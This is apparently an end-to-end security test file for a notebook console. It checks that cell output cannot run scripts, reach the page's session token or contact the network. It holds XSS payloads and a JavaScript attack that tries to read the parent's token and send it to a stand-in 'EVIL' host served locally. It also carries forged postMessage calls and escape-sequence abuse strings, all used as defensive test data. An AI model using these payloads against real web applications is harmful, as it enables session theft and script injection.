"""Output is hostile: nothing that a cell prints reaches the page, the token, or the network."""

from __future__ import annotations

import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import NamedTuple

import pytest
from playwright.sync_api import Frame, Page, expect

from tests.e2e.support import whole_system

from .conftest import TIMEOUT_MS, Console, OpenPage
from .test_watching import see

pytestmark = whole_system

HTML = """
<p id=shown>shown</p><script>document.title = 'hacked'; parent.hacked = 1; window.ran = 1</script>
<img src=x onerror="window.ran = 2"><img src="EVIL/pixel.png">
<link rel=stylesheet href="EVIL/style.css"><iframe src="EVIL/"></iframe>
<meta http-equiv=refresh content="0;url=EVIL/"><base target=_top>
<form action="EVIL/"><button>go</button></form>
<a href="javascript:window.ran=3" target=_top>link</a>
"""
ATTACK = """
<p id=shown>runs</p><script>
window.found = {};
const attempt = (name, work) => {
  try { window.found[name] = String(work()); } catch (error) { window.found[name] = 'refused'; }
};
attempt('token', () => parent.sessionStorage.getItem('kernelbroker.token'));
attempt('own storage', () => sessionStorage.length);
attempt('document', () => parent.document.title);
attempt('top', () => { top.location = 'EVIL/'; });
attempt('opened', () => window.open('EVIL/'));
for (const [name, url] of [['fetch', 'EVIL/'], ['api', '/api/v1/sessions']])
  fetch(url).then(() => window.found[name] = 'sent', () => window.found[name] = 'refused');
for (const height of [1e9, -5, 'x', null, {valueOf: 1}]) parent.postMessage({height}, '*');
parent.postMessage({ready: true, html: '<b>1</b>', token: 1}, '*');
parent.postMessage(null, '*');
window.away = 'EVIL/?' + window.found.token;
</script>
"""
BLOCKED = (
    "Content Security Policy",
    "sandbox",
    "Unsafe attempt",
    "ERR_",
    "blocked",
    "Blocked",
    "Framing",
    "request to",
)


class Evil(NamedTuple):
    url: str
    asked: list[str]


def frame_of(page: Page, number: int = 0) -> Frame:
    page.locator("iframe").nth(number).wait_for()
    found = [each for each in page.frames if "/console/frame" in each.url]
    return found[number]


@pytest.fixture(scope="module")
def evil() -> Iterator[Evil]:
    """A server that wants to be asked by the output of cells."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        def log_message(self, *_: object) -> None:
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield Evil(f"http://127.0.0.1:{server.server_port}", asked)
        server.shutdown()
        thread.join()


def test_scripts_of_html_do_not_run(console: Console, open_page: OpenPage, evil: Evil) -> None:
    """HTML is shown without its scripts, and loads nothing: no picture, style, frame or other page."""
    with console.session("html") as session:
        html = HTML.replace("EVIL", evil.url)
        session.run(f"from IPython.display import HTML; display(HTML({html!r}))")
        page = open_page("#/sessions/html", expected=BLOCKED)
        see(page, ".output-foot", "Scripts of this output are off.")
        shown = page.frame_locator("iframe").first.locator("#shown")
        expect(shown).to_have_text("shown", timeout=TIMEOUT_MS)
        assert frame_of(page).evaluate("[window.ran, window.origin]") == [None, "null"]
        page.frame_locator("iframe").first.locator("a").click()
        page.frame_locator("iframe").first.locator("button").click()
        assert frame_of(page).evaluate("window.ran") is None
        assert page.evaluate("[document.title.includes('hacked'), window.hacked]") == [False, None]
        assert evil.asked == []


def test_scripts_that_a_person_runs_reach_nothing(
    console: Console, open_page: OpenPage, evil: Evil
) -> None:
    """Scripts that a person turns on see neither the page, nor its token, nor any network."""
    with console.session("attempts") as session:
        html = ATTACK.replace("EVIL", evil.url)
        session.run(f"from IPython.display import HTML; display(HTML({html!r}))")
        page = open_page("#/sessions/attempts", expected=BLOCKED)
        page.get_by_role("button", name="Run them").click()
        shown = page.frame_locator("iframe").locator("#shown")
        expect(shown).to_have_text("runs", timeout=TIMEOUT_MS)
        frame = frame_of(page)
        frame.wait_for_function("window.found.fetch && window.found.api")
        found = frame.evaluate("window.found")
        assert found.pop("opened") in ("null", "refused")
        assert found == dict.fromkeys(
            ("token", "own storage", "document", "top", "fetch", "api"), "refused"
        )
        height = page.evaluate("parseInt(document.querySelector('iframe').style.height)")
        assert 20 <= height <= 1200
        frame.evaluate("() => { setTimeout(() => { location = window.away; }, 0); }")
        page.wait_for_function("document.querySelector('h1').innerText === 'attempts'")
        page.reload()
        see(page, ".output-foot", "Scripts of this output are off.")
        assert page.evaluate("window.hacked") is None
        assert evil.asked == []


def test_forged_messages_change_nothing(console: Console, open_page: OpenPage) -> None:
    """Messages of other windows are ignored, and those of a frame set at most its height."""
    with console.session("forged") as session:
        session.run("from IPython.display import HTML; display(HTML('<b>small</b>'))")
        page = open_page("#/sessions/forged")
        expect(page.frame_locator("iframe").locator("b")).to_be_visible(timeout=TIMEOUT_MS)
        page.wait_for_function("document.querySelector('iframe').style.height !== '60px'")
        before = page.locator("iframe").get_attribute("style")
        page.evaluate("postMessage({height: 999}, '*'); postMessage({ready: true}, '*')")
        page.evaluate("new Promise(done => setTimeout(done, 100))")
        assert page.locator("iframe").get_attribute("style") == before


def test_markup_in_text_stays_text(console: Console, open_page: OpenPage) -> None:
    """Text, names of variables and files, errors, metadata and SVG pictures with markup are only shown."""
    evil = "<img src=x onerror='window.hacked=1'><script>window.hacked=1</script>"
    with console.session("markup") as session:
        session.run(f"print({evil!r})")
        session.run(f"raise ValueError({evil!r})")
        session.run(f"open({evil.replace('/', '')!r}, 'w').write('x')")
        script = "<script>top.hacked=1</script>"
        svg = f"<svg xmlns='http://www.w3.org/2000/svg' width='9' height='9'>{script}</svg>"
        session.run(f"from IPython.display import SVG; display(SVG({svg!r}))")
        session.run("display({'text/latex': '<script>window.hacked=1</script>'}, raw=True)")
        session.run(
            "print('\\x1b]0;title\\x07\\x1b[38;2;1;2;300mx\\x1b[999999999A\\x1b[999999999B\\b\\b\\b\\x1b[')"
        )
        console.call("PATCH", "/sessions/markup", {"metadata": {"note": evil}})
        page = open_page("#/sessions/markup")
        see(page, ".line", "<script>window.hacked=1</script>")
        see(page, "img.output-image")
        for tab in ("Files", "About"):
            page.get_by_role("tab", name=tab).click()
            see(page, ".side", "onerror")
        assert page.evaluate("window.hacked") is None


def test_a_hundred_thousand_lines_stay_smooth(console: Console, open_page: OpenPage) -> None:
    """With 100,000 lines the page holds a screenful of them, answers at once, and shows any of them."""
    with console.session("lines") as session:
        session.run("for i in range(100_000): print('line', i, 'x' * 60)")
        page = open_page("#/sessions/lines")
        see(page, ".output-foot", "100,000 lines")
        see(page, ".line", "line 99999 ")
        assert page.locator(".line").count() < 120
        text = page.locator(".text.long")
        text.evaluate("each => { each.scrollTop = each.scrollHeight / 2; }")
        see(page, ".line", "line 50000 ")
        slowest = page.evaluate(
            """async () => {
              const box = document.querySelector('.text.long');
              let slowest = 0, last = performance.now();
              for (let step = 0; step < 60; step++) {
                box.scrollTop = step * 30000;
                await new Promise(requestAnimationFrame);
                slowest = Math.max(slowest, performance.now() - last);
                last = performance.now();
              }
              return slowest;
            }"""
        )
        assert slowest < 1000, "on an idle machine it is some 20 ms"
        text.evaluate("each => { each.scrollTop = 0; }")
        see(page, ".line", "line 0 ")
        session.run("print('the page still follows')")
        see(page, ".line", "the page still follows")


def test_ten_megabytes_in_long_lines(console: Console, open_page: OpenPage) -> None:
    """10 MB of output in a few endless lines are cut where they are shown, and the page stays usable."""
    with console.session("long") as session:
        session.run("for i in range(10): print('y' * 1_000_000)")
        page = open_page("#/sessions/long")
        see(page, ".cut", "more characters")
        began = time.monotonic()
        page.get_by_role("tab", name="About").click()
        see(page, ".about", "Isolation")
        assert time.monotonic() - began < 20
        assert page.evaluate("document.querySelector('.output').innerText.length") < 100_000
